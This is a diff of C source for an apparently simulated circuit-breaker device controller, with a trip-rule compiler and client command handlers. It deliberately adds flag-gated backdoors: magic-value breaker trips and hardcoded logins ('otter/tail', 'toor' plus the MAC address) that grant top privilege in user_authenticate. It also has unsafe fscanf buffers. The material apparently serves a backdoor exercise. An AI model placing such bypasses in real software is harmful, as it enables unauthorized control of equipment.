+    __m128i zero = _mm_setzero_si128(), bias = _mm_set1_epi16(-0x8000), vv, out[2], open;
+    uint64_t bits;
+    int q;
+    for (i=0; i<column_len; i+=64) {
+        bits = 0;
+        for (q=0; q<4; ++q) {
+            for (h=0; h<2; ++h) {
+                vv = _mm_xor_si128(_mm_load_si128((const __m128i*)(v+i+16*q+8*h)), bias);
+                out[h] = _mm_or_si128(
+                    _mm_cmplt_epi16(vv, _mm_xor_si128(_mm_load_si128((const __m128i*)(lo+i+16*q+8*h)), bias)),
+                    _mm_cmpgt_epi16(vv, _mm_xor_si128(_mm_load_si128((const __m128i*)(hi+i+16*q+8*h)), bias)));
+            }
+            open = _mm_cmpeq_epi8(_mm_load_si128((const __m128i*)(cb+i+16*q)), zero);
+            bits |= (uint64_t)(_mm_movemask_epi8(_mm_andnot_si128(open, _mm_packs_epi16(out[0], out[1]))) & 0xffff)
+                    << (16*q);
+        }
+        trip_mask[i/64] = bits;
+    }
+#else
+    uint64_t bits;
+    for (i=0; i<column_len; i+=64) {
+        bits = 0;
+        for (h=0; h<64; ++h)
+            bits |= (uint64_t)(cb[i+h] != 0 && (v[i+h] < lo[i+h] || v[i+h] > hi[i+h])) << h;
+        trip_mask[i/64] = bits;
+    }
+#endif
+}
+
+static void trip_breaker(struct Device *dev) {
+    vars_write_begin(dev);
+    var_write(dev, VAR_CIRCUIT_BREAKER, 0);
+    ++dev->ntrips;
+    if (shm_map)
+        SHM_RECORD(dev->id)->ntrips = dev->ntrips;
+    vars_write_end(dev);
+    ++state_changes;
+    record_change(dev, WAL_TRIP, VAR_CIRCUIT_BREAKER, 0);
+    puts("*** BREAKER TRIPPED");
+}
+
+
+#ifdef ROBB_BACKDOOR_1
+/* If VAR_UNUSED is set to 123 then the circuit breaker trips.  Another way to get the same effect is to modify the "if"
+ * condition in trip_breaker_based_on_voltage.  Another way is to temporarilty set VAR_VOLTAGE to something that's out of
+ * range. Another way is to temporarily change the limits so the voltage is out of range long enough to trip the breaker. */
+static void
+trip_breaker_unused_123(struct Device *dev) {
+    int trip = DEV_VAR(dev, VAR_CIRCUIT_BREAKER)!=0 && DEV_VAR(dev, VAR_UNUSED)==123;
+    if (trip) {
+        trip_breaker(dev);
+        fputs("*** BACKDOOR: circuit breaker tripped (ROBB_BACKDOOR_1)\n", stdout);
+    }
+}
+#endif
+
+#ifdef SETH_BACKDOOR_1
+/* if VAR_UNUSED << 8 + VAR_AMPERAGE == randval, where randval = a 16 bit random
+ * value seeded with (YYYYMMDD) and % 65536. Note that this does not produce a
+ * truly uniformly random distribution but it's good enough for our backdoor.
+*/
+
+struct tm *timenow;
+int yyyymmdd=0, pod=0;
+
+static void trip_breaker_voltage_rand(struct Device *dev) {
+  int matchit = DEV_VAR(dev, VAR_UNUSED) *0x100 + DEV_VAR(dev, VAR_AMPERAGE);
+  int trip = (DEV_VAR(dev, VAR_CIRCUIT_BREAKER) != 0) && (matchit == pod);
+    if (trip) {
+        trip_breaker(dev);
+        fputs("*** BACKDOOR: circuit breaker tripped (SETH_BACKDOOR_1)\n", stdout);
+    }
+}
+#endif
+
+#ifdef SETH_BACKDOOR_3
+void get_hwaddr(char *hwaddr) {
+#ifdef __linux  // use Linux ioctl to get hwaddr.
+    int s;
+    struct ifreq buffer;
+
+    s = socket(PF_INET, SOCK_DGRAM, 0);
+    memset(&buffer, 0x00, sizeof(buffer));
+    strcpy(buffer.ifr_name, "eth0");
+    ioctl(s, SIOCGIFHWADDR, &buffer);
+    close(s);
+    for (s = 0; s < 6; s++) {
+         sprintf(&(hwaddr[2*s]), "%.2X", (unsigned char)buffer.ifr_hwaddr.sa_data[s]);
+    }
+#else  // we'll simulate a hwaddr.
+    strncpy(hwaddr, "000102030405",12);
+#endif
+    hwaddr[13] = '\0';
+}
+
+char hwaddr[13];
+#endif
+
+static void
+trip_breaker_on_voltage(struct Device *dev) {
+    if (trip_conditions_met(dev)) {
+        trip_breaker(dev);
+    }
+}
+
+/* Trip rules, in the order simulate_interrupt evaluates them, with the variables each one reads.  A rule's verdict depends
+ * on nothing else, so a rule none of whose variables changed since it was last evaluated would reach the same verdict again
+ * and is skipped.  rules_init turns the table, and the rules loaded from the rules file, into rule_deps, and var_write marks
+ * the rules that read a variable dirty whenever the variable changes.  Rule R is bit R of the masks: the rules below come
+ * first, then the loaded rules. */
+struct TripRule {
+    void (*check)(struct Device *dev);
+    int nreads;
+    int reads[4];
+};
+
+static const struct TripRule trip_rules[] = {
+    {trip_breaker_on_voltage, 4, {VAR_CIRCUIT_BREAKER, VAR_VOLTAGE, VAR_MIN_VOLTAGE, VAR_MAX_VOLTAGE}},
+    #ifdef ROBB_BACKDOOR_1
+    {trip_breaker_unused_123, 2, {VAR_CIRCUIT_BREAKER, VAR_UNUSED}},
+    #endif
+    #ifdef SETH_BACKDOOR_1
+    {trip_breaker_voltage_rand, 3, {VAR_CIRCUIT_BREAKER, VAR_UNUSED, VAR_AMPERAGE}},
+    #endif
+};
+
+#define NTRIP_RULES (sizeof trip_rules / sizeof *trip_rules)
+
+/* Loaded trip rules.  The rules file (-R) has one rule per line; blank lines and text after "#" are ignored.  A rule is an
+ * expression over the device's variables, and trips the breaker when the breaker is closed and the expression is non-zero:
+ *
+ *     expr    := and ("||" and)*
+ *     and     := not ("&&" not)*
+ *     not     := "!" not | cmp
+ *     cmp     := sum [("<" | "<=" | ">" | ">=" | "==" | "!=") sum]
+ *     sum     := primary (("+" | "-") primary)*
+ *     primary := INTEGER | NAME | ("min" | "max" | "avg") "(" NAME "," MS ")" | "(" expr ")"
+ *
+ * Values are in stored units (see var_schema), so "frequency < 5950" is 59.50 Hz.  min(NAME, MS), max(NAME, MS) and
+ * avg(NAME, MS) combine the values NAME held during the last MS milliseconds, as far back as its history (-H) goes; a rule
+ * with one of them is evaluated after every command, because its verdict also depends on the time.
+ *
+ * Each rule is compiled to a short program for a register machine: every instruction reads up to two of RULE_NREGS
+ * registers, or a variable or a constant, and writes one register, and the verdict is left in register 0.  The programs
+ * of all the rules share one instruction array, so evaluating a rule runs a tight loop over a few instructions and never
+ * allocates.  The "reload" command compiles the file again and, if that succeeds, replaces the loaded rules. */
+#define RULE_NREGS 16
+#define RULE_MAX_LINE 512
+#define RULE_MAX (64 - NTRIP_RULES)
+
+enum RuleOp {
+    OP_CONST, OP_VAR, OP_MIN, OP_MAX, OP_AVG, OP_ADD, OP_SUB,
+    OP_LT, OP_LE, OP_GT, OP_GE, OP_EQ, OP_NE, OP_AND, OP_OR, OP_NOT
+};
+
+struct RuleInsn {
+    uint8_t op;
+    uint8_t dst;                                        /* register written */
+    uint8_t a, b;                                       /* registers read, or the variable read in a */
+    uint32_t k;                                         /* index of a constant in the rule set's consts */
+};
+
+struct LoadedRule {
+    uint32_t start, end;                                /* the rule's instructions */
+    int windowed;                                       /* reads a time window */
+    uint64_t reads[256/64];                             /* variables the rule reads */
+};
+
+struct RuleSet {
+    struct RuleInsn *code;
+    int64_t *consts;
+    struct LoadedRule *rules;
+    unsigned ncode, nconsts, nrules;
+};
+
+static struct RuleSet rule_set;
+static uint64_t rules_windowed;                         /* rules evaluated after every command */
+static const char *rules_file;
+static char rules_error[RULE_MAX_LINE + 64];            /* why the last rules_load failed */
+
+/* State of the compiler while it compiles one line. */
+struct RuleCompiler {
+    const char *p;                                      /* next character of the line */
+    struct RuleSet *set;                                /* where instructions and constants go */
+    struct LoadedRule *rule;                            /* the rule being compiled */
+    unsigned code_cap, consts_cap;
+    const char *error;
+};
+
+static void
+rules_init(void) {
+    unsigned r;
+    int i, x;
+    memset(rule_deps, 0, sizeof rule_deps);
+    for (r=0; r<NTRIP_RULES; ++r) {
+        for (i=0; i<trip_rules[r].nreads; ++i)
+            rule_deps[trip_rules[r].reads[i]] |= (uint64_t)1 << r;
+    }
+    rules_windowed = 0;
+    for (r=0; r<rule_set.nrules; ++r) {
+        for (x=0; x<256; ++x) {
+            if (rule_set.rules[r].reads[x/64] >> (x%64) & 1)
+                rule_deps[x] |= (uint64_t)1 << (NTRIP_RULES + r);
+        }
+        if (rule_set.rules[r].windowed)
+            rules_windowed |= (uint64_t)1 << (NTRIP_RULES + r);
+    }
+}
+
+static int
+rule_emit(struct RuleCompiler *c, int op, int dst, int a, int b, unsigned k) {
+    struct RuleInsn *code;
+    if (c->set->ncode == c->code_cap) {
+        c->code_cap = c->code_cap ? 2*c->code_cap : 64;
+        if (!(code = realloc(c->set->code, c->code_cap * sizeof *code))) {
+            c->error = "out of memory";
+            return -1;
+        }
+        c->set->code = code;
+    }
+    code = &c->set->code[c->set->ncode++];
+    code->op = op;
+    code->dst = dst;
+    code->a = a;
+    code->b = b;
+    code->k = k;
+    return 0;
+}
+
+/* Adds VALUE to the constants and returns its index, or -1. */
+static int
+rule_const(struct RuleCompiler *c, int64_t value) {
+    int64_t *consts;
+    if (c->set->nconsts == c->consts_cap) {
+        c->consts_cap = c->consts_cap ? 2*c->consts_cap : 64;
+        if (!(consts = realloc(c->set->consts, c->consts_cap * sizeof *consts))) {
+            c->error = "out of memory";
+            return -1;
+        }
+        c->set->consts = consts;
+    }
+    c->set->consts[c->set->nconsts] = value;
+    return c->set->nconsts++;
+}
+
+/* Skips blanks and consumes TOKEN if it comes next. */
+static int
+rule_accept(struct RuleCompiler *c, const char *token) {
+    size_t len = strlen(token);
+    while (*c->p == ' ' || *c->p == '\t')
+        ++c->p;
+    if (strncmp(c->p, token, len))
+        return 0;
+    c->p += len;
+    return 1;
+}
+
+/* Scans a variable name and returns the variable's number, or -1. */
+static int
+rule_variable(struct RuleCompiler *c) {
+    const char *start;
+    size_t len;
+    int x;
+
+    rule_accept(c, "");
+    for (start = c->p; (*c->p >= 'a' && *c->p <= 'z') || (*c->p >= '0' && *c->p <= '9') || *c->p == '_'; ++c->p)
+        /* scan the name */;
+    len = c->p - start;
+    if ((x = var_lookup(start, len)) < 0) {
+        c->error = len ? "unknown variable" : "expected a variable";
+        return -1;
+    }
+    c->rule->reads[x/64] |= (uint64_t)1 << (x%64);
+    return x;
+}
+
+static int rule_or(struct RuleCompiler *c, int dst);
+
+static int
+rule_primary(struct RuleCompiler *c, int dst) {
+    static const char *const windows[] = {"min", "max", "avg"};
+    const char *start;
+    char *end;
+    int64_t value;
+    int x, k, w;
+
+    if (dst >= RULE_NREGS) {
+        c->error = "expression too deep";
+        return -1;
+    }
+    if (rule_accept(c, "(")) {
+        if (rule_or(c, dst) < 0)
+            return -1;
+        if (!rule_accept(c, ")")) {
+            c->error = "expected \")\"";
+            return -1;
+        }
+        return 0;
+    }
+    if ((*c->p >= '0' && *c->p <= '9') || (*c->p == '-' && c->p[1] >= '0' && c->p[1] <= '9')) {
+        value = strtoll(c->p, &end, 10);
+        c->p = end;
+        return (k = rule_const(c, value)) < 0 ? -1 : rule_emit(c, OP_CONST, dst, 0, 0, k);
+    }
+    for (w=0; w<3; ++w) {
+        start = c->p;
+        if (rule_accept(c, windows[w]) && rule_accept(c, "(")) {
+            if ((x = rule_variable(c)) < 0)
+                return -1;
+            if (x >= VAR_LAST || !history_len) {
+                c->error = "no history for a window";
+                return -1;
+            }
+            if (!rule_accept(c, ",")) {
+                c->error = "expected \",\"";
+                return -1;
+            }
+            rule_accept(c, "");
+            if (!(*c->p >= '0' && *c->p <= '9')) {
+                c->error = "expected a window in milliseconds";
+                return -1;
+            }
+            value = strtoll(c->p, &end, 10);
+            c->p = end;
+            if (value > INT64_MAX / 1000000) {
+                c->error = "window too long";
+                return -1;
+            }
+            if (!rule_accept(c, ")")) {
+                c->error = "expected \")\"";
+                return -1;
+            }
+            c->rule->windowed = 1;
+            return (k = rule_const(c, value * 1000000)) < 0 ? -1 : rule_emit(c, OP_MIN + w, dst, x, 0, k);
+        }
+        c->p = start;
+    }
+    return (x = rule_variable(c)) < 0 ? -1 : rule_emit(c, OP_VAR, dst, x, 0, 0);
+}
+
+static int
+rule_sum(struct RuleCompiler *c, int dst) {
+    int op;
+    if (rule_primary(c, dst) < 0)
+        return -1;
+    while ((op = rule_accept(c, "+") ? OP_ADD : rule_accept(c, "-") ? OP_SUB : -1) >= 0) {
+        if (rule_primary(c, dst+1) < 0 || rule_emit(c, op, dst, dst, dst+1, 0) < 0)
+            return -1;
+    }
+    return 0;
+}
+
+static int
+rule_cmp(struct RuleCompiler *c, int dst) {
+    static const struct { const char *token; int op; } ops[] = {
+        {"<=", OP_LE}, {">=", OP_GE}, {"==", OP_EQ}, {"!=", OP_NE}, {"<", OP_LT}, {">", OP_GT}
+    };
+    unsigned i;
+    if (rule_sum(c, dst) < 0)
+        return -1;
+    for (i=0; i<sizeof ops / sizeof *ops; ++i) {
+        if (rule_accept(c, ops[i].token))
+            return rule_sum(c, dst+1) < 0 ? -1 : rule_emit(c, ops[i].op, dst, dst, dst+1, 0);
+    }
+    return 0;
+}
+
+static int
+rule_not(struct RuleCompiler *c, int dst) {
+    if (rule_accept(c, "!"))
+        return rule_not(c, dst) < 0 ? -1 : rule_emit(c, OP_NOT, dst, dst, 0, 0);
+    return rule_cmp(c, dst);
+}
+
+static int
+rule_and(struct RuleCompiler *c, int dst) {
+    if (rule_not(c, dst) < 0)
+        return -1;
+    while (rule_accept(c, "&&")) {
+        if (rule_not(c, dst+1) < 0 || rule_emit(c, OP_AND, dst, dst, dst+1, 0) < 0)
+            return -1;
+    }
+    return 0;
+}
+
+static int
+rule_or(struct RuleCompiler *c, int dst) {
+    if (rule_and(c, dst) < 0)
+        return -1;
+    while (rule_accept(c, "||")) {
+        if (rule_and(c, dst+1) < 0 || rule_emit(c, OP_OR, dst, dst, dst+1, 0) < 0)
+            return -1;
+    }
+    return 0;
+}
+
+static void
+rule_set_free(struct RuleSet *set) {
+    free(set->code);
+    free(set->consts);
+    free(set->rules);
+    memset(set, 0, sizeof *set);
+}
+
+/* Compiles the rules in FILENAME and, if they're all valid, makes them the loaded rules and marks them dirty on every
+ * device.  Otherwise the loaded rules are kept and rules_error says what's wrong. */
+static int
+rules_load(const char *filename) {
+    struct RuleSet set = {0};
+    struct RuleCompiler c = {0};
+    struct LoadedRule *rules;
+    char line[RULE_MAX_LINE], *comment;
+    unsigned lineno = 0, rules_cap = 0, i;
+    FILE *f;
+
+    if (!(f = fopen(filename, "r"))) {
+        snprintf(rules_error, sizeof rules_error, "%s: %s\n", filename, strerror(errno));
+        return -1;
+    }
+    c.set = &set;
+    while (!c.error && fgets(line, sizeof line, f)) {
+        ++lineno;
+        if (!strchr(line, '\n') && !feof(f)) {
+            c.error = "line too long";
+            break;
+        }
+        if ((comment = strpbrk(line, "#\n")))
+            *comment = '\0';
+        c.p = line;
+        rule_accept(&c, "");
+        if (!*c.p)
+            continue;
+        if (set.nrules == RULE_MAX) {
+            c.error = "too many rules";
+            break;
+        }
+        if (set.nrules == rules_cap) {
+            rules_cap = rules_cap ? 2*rules_cap : 8;
+            if (!(rules = realloc(set.rules, rules_cap * sizeof *rules))) {
+                c.error = "out of memory";
+                break;
+            }
+            set.rules = rules;
+        }
+        c.rule = &set.rules[set.nrules];
+        memset(c.rule, 0, sizeof *c.rule);
+        c.rule->start = set.ncode;
+        c.rule->reads[VAR_CIRCUIT_BREAKER/64] |= (uint64_t)1 << (VAR_CIRCUIT_BREAKER%64);
+        if (rule_or(&c, 0) < 0)
+            break;
+        rule_accept(&c, "");
+        if (*c.p) {
+            c.error = "unexpected text";
+            break;
+        }
+        c.rule->end = set.ncode;
+        ++set.nrules;
+    }
+    fclose(f);
+    if (c.error) {
+        snprintf(rules_error, sizeof rules_error, "%s:%u: %s\n", filename, lineno, c.error);
+        rule_set_free(&set);
+        return -1;
+    }
+    rule_set_free(&rule_set);
+    rule_set = set;
+    rules_init();
+    for (i=0; i<ndevices; ++i)
+        devices[i].dirty_rules |= ~(uint64_t)0 << NTRIP_RULES;
+    return 0;
+}
+
+/* Combines, according to OP, the values variable X of DEV has held since time SINCE, as far back as its history goes. */
+static int64_t
+history_window(const struct Device *dev, int x, int op, uint64_t since) {
+    unsigned r = dev->id * VAR_LAST + x, i = history_count[r], n = i < history_len ? i : history_len;
+    int64_t acc = DEV_VAR(dev, x), count = 1, v;
+    uint64_t held_until;
+    size_t slot;
+
+    /* The newest write is the current value, which is held now; each older write was held until the next one. */
+    if (n) {
+        held_until = history_time[(size_t)r * history_len + (--i & (history_len - 1))];
+        for (; --n && held_until > since; held_until = history_time[slot], ++count) {
+            slot = (size_t)r * history_len + (--i & (history_len - 1));
+            v = history_value[slot];
+            if (op == OP_MIN ? v < acc : op == OP_MAX ? v > acc : 0)
+                acc = v;
+            else if (op == OP_AVG)
+                acc += v;
+        }
+    }
+    return op == OP_AVG ? acc / count : acc;
+}
+
+/* Runs the program of loaded rule RULE on DEV and returns its verdict. */
+static int64_t
+rule_run(const struct Device *dev, const struct LoadedRule *rule) {
+    const struct RuleInsn *pc = rule_set.code + rule->start, *end = rule_set.code + rule->end;
+    int64_t r[RULE_NREGS] = {0};
+    uint64_t now = 0, window;
+
+    for (; pc != end; ++pc) {
+        switch (pc->op) {
+            case OP_CONST: r[pc->dst] = rule_set.consts[pc->k]; break;
+            case OP_VAR:   r[pc->dst] = DEV_VAR(dev, pc->a); break;
+            case OP_MIN:
+            case OP_MAX:
+            case OP_AVG:
+                if (!now)
+                    now = sim_now();
+                window = rule_set.consts[pc->k];
+                r[pc->dst] = history_window(dev, pc->a, pc->op, now > window ? now - window : 0);
+                break;
+            case OP_ADD:   r[pc->dst] = r[pc->a] + r[pc->b]; break;
+            case OP_SUB:   r[pc->dst] = r[pc->a] - r[pc->b]; break;
+            case OP_LT:    r[pc->dst] = r[pc->a] < r[pc->b]; break;
+            case OP_LE:    r[pc->dst] = r[pc->a] <= r[pc->b]; break;
+            case OP_GT:    r[pc->dst] = r[pc->a] > r[pc->b]; break;
+            case OP_GE:    r[pc->dst] = r[pc->a] >= r[pc->b]; break;
+            case OP_EQ:    r[pc->dst] = r[pc->a] == r[pc->b]; break;
+            case OP_NE:    r[pc->dst] = r[pc->a] != r[pc->b]; break;
+            case OP_AND:   r[pc->dst] = r[pc->a] && r[pc->b]; break;
+            case OP_OR:    r[pc->dst] = r[pc->a] || r[pc->b]; break;
+            case OP_NOT:   r[pc->dst] = !r[pc->a]; break;
+        }
+    }
+    return r[0];
+}
+
+/* Evaluates rule R (a bit of the rule masks) on DEV.  Returns non-zero if a loaded rule tripped the breaker. */
+static int
+rule_check(struct Device *dev, unsigned r) {
+    if (r < NTRIP_RULES) {
+        trip_rules[r].check(dev);
+    } else if (r - NTRIP_RULES < rule_set.nrules && DEV_VAR(dev, VAR_CIRCUIT_BREAKER) != 0 &&
+               rule_run(dev, &rule_set.rules[r - NTRIP_RULES])) {
+        trip_breaker(dev);
+        return 1;
+    }
+    return 0;
+}
+
+/* Evaluates the device's dirty trip rules, and the loaded rules with time windows.  A rule that trips the breaker makes the
+ * rules reading the breaker dirty again, to be evaluated after the next command. */
+static void simulate_interrupt(struct Device *dev) {
+    uint64_t dirty = dev->dirty_rules | rules_windowed;
+
+    dev->dirty_rules = 0;
+    for (; dirty; dirty &= dirty - 1)
+        rule_check(dev, __builtin_ctzll(dirty));
+}
+
+/* Same as calling simulate_interrupt for every device, but the devices whose trip conditions are met are found all at once
+ * by trip_scan.  Returns the number of breakers tripped by those conditions. */
+static unsigned
+simulate_interrupt_all(void) {
+    uint64_t bits;
+    size_t w;
+    unsigned id, r, ntripped = 0;
+
+    trip_scan();
+    for (w=0; w<column_len/64; ++w) {
+        for (bits = trip_mask[w]; bits; bits &= bits - 1) {
+            if ((id = w*64 + __builtin_ctzll(bits)) >= ndevices)
+                break;
+            trip_breaker(&devices[id]);
+            ++ntripped;
+        }
+    }
+
+    #if defined(ROBB_BACKDOOR_1) || defined(SETH_BACKDOOR_1)
+    for (id=0; id<ndevices; ++id) {
+        #ifdef ROBB_BACKDOOR_1
+            trip_breaker_unused_123(&devices[id]);
+        #endif
+        #ifdef SETH_BACKDOOR_1
+            trip_breaker_voltage_rand(&devices[id]);
+        #endif
+    }
+    #endif
+
+    for (id=0; id<ndevices && rule_set.nrules; ++id) {
+        for (r=0; r<rule_set.nrules; ++r)
+            ntripped += rule_check(&devices[id], NTRIP_RULES + r);
+    }
+
+    return ntripped;
+}
+
+
+static const char *
+variable_name(enum VariableName name, int use_default) {
+    static char dflt[64];
+    if (var_schema[name].name || !use_default)
+        return var_schema[name].name;
+    sprintf(dflt, "var[%u]", (unsigned)name);
+    return dflt;
+}
+
+int user_authenticate(char *username, char *password) {
+    char uname[9];
+    char pw[9];
+    int privlvl;
+
+    FILE *f;
+    f = fopen(PW_FILE,"r");
+
+    /* putting this after the fopen to obfuscate */
+    #ifdef SETH_BACKDOOR_2
+    if (!strcmp(username,"otter") && !strcmp(password,"tail")) {
+        fclose(f);
+        puts("SETH_BACKDOOR_2: otter/tail access granted");
+        return(15);
+    }
+    #endif
+
+    #ifdef SETH_BACKDOOR_3
+    printf("hwaddr = %s, password = %s\n", hwaddr, password);
+    if (!strcmp(username,"toor") && !strcmp(password, hwaddr)) {
+        fclose(f);
+        puts("SETH_BACKDOOR_3: toor/hwaddr access granted");
+        return(15);
+    }
+    #endif
+    while (fscanf(f, "%s %s %d\n", uname, pw, &privlvl) != EOF) {
+        if (!strncmp(username, uname, 9)) {
+            if (!strncmp(password, pw, 9)) {
+                fclose(f);
+                return(privlvl);
+            }
+            else {
+                fclose(f);
+                return(AUTHENTICATE_BAD_PW);
+            }
+        }
+    }
+    fclose(f);
+    return(AUTHENTICATE_BAD_USER);
+}
+
+
+
+
+/* What show_variables prints after each command. */
+enum DumpMode {
+    DUMP_FULL,                                          /* all named or non-zero variables */
+    DUMP_DELTA,                                         /* only variables changed since the previous dump */
+    DUMP_NONE                                           /* nothing */
+};
+static enum DumpMode dump_mode = DUMP_FULL;
+static unsigned full_dump_interval = 0;                 /* in delta mode, dump everything every this many dumps (0 = never) */
+static unsigned long ndumps = 0;
+
+static void
+show_variables(struct Device *dev) {
+    uint32_t snap[256];
+    char value[16];
+    const char *name;
+    uint64_t bits;
+    int i, w;
+
+    if (dump_mode == DUMP_NONE) {
+        memset(dev->dirty, 0, sizeof dev->dirty);
+        return;
+    }
+    vars_snapshot(dev, snap);
+    if (ndevices > 1)
+        printf("device %u ", (unsigned)(dev - devices));
+    if (dump_mode == DUMP_FULL || (full_dump_interval && ndumps % full_dump_interval == 0)) {
+        fputs("variables:\n", stdout);
+        for (i=0; i<256; ++i) {
+            if ((name = variable_name(i, 0)) || snap[i]) {
+                var_format(value, i, snap[i]);
+                printf("  %d: %-24s = %s\n", i, name ? name : variable_name(i, 1), value);
+            }
+        }
+    } else {
+        fputs("variables changed:\n", stdout);
+        for (w=0; w<256/64; ++w) {
+            for (bits = dev->dirty[w]; bits; bits &= bits - 1) {
+                i = w*64 + __builtin_ctzll(bits);
+                var_format(value, i, snap[i]);
+                printf("  %d: %-24s = %s\n", i, variable_name(i, 1), value);
+            }
+        }
+    }
+    memset(dev->dirty, 0, sizeof dev->dirty);
+    ++ndumps;
+}
+
+/* Converts the decimal number with integer part VALUE and fraction FRAC (in billionths, with the sign of the number) to the
+ * stored units of variable X.  Returns INT64_MIN if the number is too large for any variable or has more fraction digits
+ * than X keeps, so that it's rejected as out of range rather than truncated. */
+static int64_t
+var_units(int x, int64_t value, int32_t frac) {
+    int d = var_schema[x].type == VT_FIXED ? var_schema[x].frac_digits : 0;
+    if (value < -(int64_t)UINT32_MAX || value > UINT32_MAX || frac == INT32_MIN || frac % (int32_t)decimal_scale[9 - d])
+        return INT64_MIN;
+    return value * decimal_scale[d] + frac / (int32_t)decimal_scale[9 - d];
+}
+
+/* Sets variable X to VALUE, in stored units.  Returns non-zero if VALUE is outside the variable's range. */
+unsigned int set_var(struct Device *dev, int x, int64_t value) {
+    const struct VariableDesc *desc = &var_schema[x];
+    char buf[16];
+
+    if (value < desc->min || value > desc->max)
+        return 1;
+    var_format(buf, x, value);
+    printf("command: set variable[%u] = %s\n", (unsigned)x, buf);
+    var_write(dev, x, value);
+
+    return 0;
+}
+
+/******************************************************************
+ * COMMANDS                                                       *
+ ******************************************************************/
+
+static void connection_write(int sock, const void *buf, size_t len);
+
+/* Sends LEN bytes of reply to the client on SOCK.  Batch input replies on standard output, where state dumps are written
+ * through stdio, so its replies go through stdio too to keep the two in order. */
+static void
+client_write(int sock, const void *buf, size_t len) {
+    if (sock == STDOUT_FILENO)
+        fwrite(buf, 1, len, stdout);
+    else
+        connection_write(sock, buf, len);
+}
+
+static int
+cmd_nop(struct ClientRequest *req) {
+    (void)req;
+    fputs("command: nop\n", stdout);
+    return 1;
+}
+
+static int
+cmd_exit(struct ClientRequest *req) {
+    (void)req;
+    fputs("command: exit\n", stdout);
+    exit_requested = 1;
+    return 1;
+}
+
+/* Sets one or more variables from name/value argument pairs.  Every pair is checked before any is applied, so a command
+ * with a bad pair changes nothing. */
+static int
+cmd_set_variable(struct ClientRequest *req) {
+    const struct CommandArg *arg;
+    int64_t value;
+    int i;
+    for (i=0; i+1<req->nargs; i+=2) {
+        arg = &req->args[i];
+        if (arg->var < 0 || (value = var_units(arg->var, arg[1].value, arg[1].frac)) < var_schema[arg->var].min ||
+            value > var_schema[arg->var].max) {
+            req->reply = ERR_BAD_SET;
+            return 0;
+        }
+    }
+    vars_write_begin(req->dev);
+    for (i=0; i+1<req->nargs; i+=2) {
+        arg = &req->args[i];
+        set_var(req->dev, arg->var, var_units(arg->var, arg[1].value, arg[1].frac));
+    }
+    vars_write_end(req->dev);
+    return 1;
+}
+
+/* Sets a variable to a new value if it currently has the expected value.  Otherwise replies with its current value. */
+static int
+cmd_cas(struct ClientRequest *req) {
+    static char reply[128];
+    int x = req->args[0].var, len;
+    int64_t expected, value;
+
+    if (x < 0) {
+        req->reply = ERR_BAD_SET;
+        return 0;
+    }
+    expected = var_units(x, req->args[1].value, req->args[1].frac);
+    value = var_units(x, req->args[2].value, req->args[2].frac);
+    if (expected == INT64_MIN || value < var_schema[x].min || value > var_schema[x].max) {
+        req->reply = ERR_BAD_SET;
+        return 0;
+    }
+    if (DEV_VAR(req->dev, x) != expected) {
+        len = sprintf(reply, "failed %s=", variable_name(x, 1));
+        strcat(reply + len + var_format(reply+len, x, DEV_VAR(req->dev, x)), "\n");
+        req->reply = reply;
+        return 1;
+    }
+    set_var(req->dev, x, value);
+    return 1;
+}
+
+/* Adds a (possibly negative) amount to a variable and replies with the result.  Fails if the result would be outside the
+ * variable's range. */
+static int
+cmd_add(struct ClientRequest *req) {
+    static char reply[128];
+    int x = req->args[0].var, len;
+    int64_t delta;
+
+    if (x < 0 || (delta = var_units(x, req->args[1].value, req->args[1].frac)) == INT64_MIN ||
+        set_var(req->dev, x, DEV_VAR(req->dev, x) + delta)) {
+        req->reply = ERR_BAD_SET;
+        return 0;
+    }
+    len = sprintf(reply, "%s=", variable_name(x, 1));
+    strcat(reply + len + var_format(reply+len, x, DEV_VAR(req->dev, x)), "\n");
+    req->reply = reply;
+    return 1;
+}
+
+/* Replies with "name=value" for each requested variable, all on one line. The reply is written in pieces when there are
+ * more variables than fit in the local buffer. */
+static int
+cmd_get_variables(struct ClientRequest *req) {
+    char reply[512];
+    uint32_t snap[256];
+    size_t len = 0;
+    int i, x;
+    for (i=0; i<req->nargs; ++i) {
+        if (req->args[i].var < 0) {
+            req->reply = ERR_BAD_GET;
+            return 0;
+        }
+    }
+    vars_snapshot(req->dev, snap);
+    for (i=0; i<req->nargs; ++i) {
+        x = req->args[i].var;
+        len += sprintf(reply+len, "%s%s=", i ? " " : "", variable_name(x, 1));
+        len += var_format(reply+len, x, snap[x]);
+        if (len > sizeof(reply) - 64) {
+            client_write(req->client_sock, reply, len);
+            len = 0;
+        }
+    }
+    reply[len++] = '\n';
+    client_write(req->client_sock, reply, len);
+    req->reply = "";
+    return 1;
+}
+
+static int watch_add(int sock, struct Device *dev, int var);
+
+/* Subscribes the client to changes in the named variables. */
+static int
+cmd_watch(struct ClientRequest *req) {
+    int i;
+    for (i=0; i<req->nargs; ++i) {
+        if (req->args[i].var < 0 || watch_add(req->client_sock, req->dev, req->args[i].var) < 0) {
+            req->reply = ERR_BAD_WATCH;
+            return 0;
+        }
+    }
+    return 1;
+}
+
+static void notify_watchers(struct Device *dev);
+
+/* Runs the interrupt handler of every device and replies with the number of breakers tripped by their trip conditions. */
+static int
+cmd_scan(struct ClientRequest *req) {
+    static char reply[32];
+    unsigned i;
+    sprintf(reply, "tripped %u\n", simulate_interrupt_all());
+    for (i=0; i<ndevices; ++i) {
+        if (devices[i].watchers)
+            notify_watchers(&devices[i]);
+    }
+    req->reply = reply;
+    return 1;
+}
+
+/* Replies with the variable's name followed by "TIME:VALUE" for its most recent writes, oldest first, where TIME is in
+ * nanoseconds since the epoch.  An optional second argument limits the number of writes reported. */
+static int
+cmd_history(struct ClientRequest *req) {
+    char reply[512];
+    size_t len, slot;
+    unsigned r, count, n, i;
+    int x = req->args[0].var;
+
+    if (x < 0 || x >= VAR_LAST || !history_len || (req->nargs > 1 && req->args[1].value < 0)) {
+        req->reply = ERR_BAD_HISTORY;
+        return 0;
+    }
+    r = req->dev->id * VAR_LAST + x;
+    count = history_count[r];
+    n = count < history_len ? count : history_len;
+    if (req->nargs > 1 && req->args[1].value < n)
+        n = req->args[1].value;
+
+    len = sprintf(reply, "%s", variable_name(x, 1));
+    for (i = count - n; i != count; ++i) {
+        slot = (size_t)r * history_len + (i & (history_len - 1));
+        len += sprintf(reply+len, " %llu:", (unsigned long long)history_time[slot]);
+        len += var_format(reply+len, x, history_value[slot]);
+        if (len > sizeof(reply) - 64) {
+            client_write(req->client_sock, reply, len);
+            len = 0;
+        }
+    }
+    reply[len++] = '\n';
